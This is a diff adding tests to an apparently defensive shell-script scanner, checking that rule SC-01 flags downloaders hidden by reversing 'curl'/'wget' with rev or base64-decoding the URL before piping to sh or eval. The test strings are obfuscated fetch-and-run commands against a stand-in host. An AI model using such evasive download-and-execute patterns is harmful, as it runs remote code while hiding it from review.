@@ -253,3 +253,15 @@ def test_saved_card_charged_directly_is_caught():
 def test_charges_listed_for_a_customer_is_clean():
     js = "const stripe = require('stripe')(key);\nconst list = await stripe.charges.list({ customer: cust.id, limit: 5 });\n"
     assert "EA-04" not in _rules(scan({"scripts/bill.js": js}))
+
+
+def test_downloader_reversed_or_base64_decoded_in_its_assignment_is_caught():
+    rev = "c=$(echo 'lruc' | rev)\ns=\"$($c -fsSL https://cdn.example.test/a.sh)\"\neval \"$s\"\n"
+    b64 = "d=$(echo aHR0cHM6Ly9jZG4uZXhhbXBsZS50ZXN0L2Euc2g= | base64 -d)\nc=$(printf '%s' 'tegw' | rev)\n$c -qO- \"$d\" | sh\n"
+    assert [f.rule for f in shell.flows(rev)] == ["SC-01"]
+    assert [f.rule for f in shell.flows(b64)] == ["SC-01"]
+
+
+def test_reversed_word_that_is_no_downloader_is_clean():
+    script = "c=$(echo 'tac' | rev)\ns=\"$($c notes.sh)\"\neval \"$s\"\n"
+    assert shell.flows(script) == []
